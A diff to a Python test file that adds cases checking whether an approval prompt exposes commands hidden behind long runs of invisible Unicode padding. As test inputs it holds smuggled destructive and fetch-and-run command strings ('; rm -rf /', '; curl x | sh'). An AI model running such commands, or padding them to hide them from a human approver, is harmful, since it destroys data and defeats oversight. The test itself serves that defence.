@@ -223,3 +223,6 @@ def test_the_question_escapes_control_characters_and_is_cut_short() -> None:
     assert "; rm -rf /" in long  # the end of a long value is shown, not cut away
     padded = ApprovalRequest("run", "user", {"command": "ls" + " " * 5000 + "; curl x | sh"}).message()
     assert "ls<5000 spaces>; curl x | sh" in padded
+    for blank in "\u3164\u2800\u115f\u1160\uffa0":  # printable, drawn as nothing
+        hidden = ApprovalRequest("run", "user", {"command": "ls" + blank * 300 + "; curl x | sh"}).message()
+        assert "ls<300 spaces>; curl x | sh" in hidden, blank
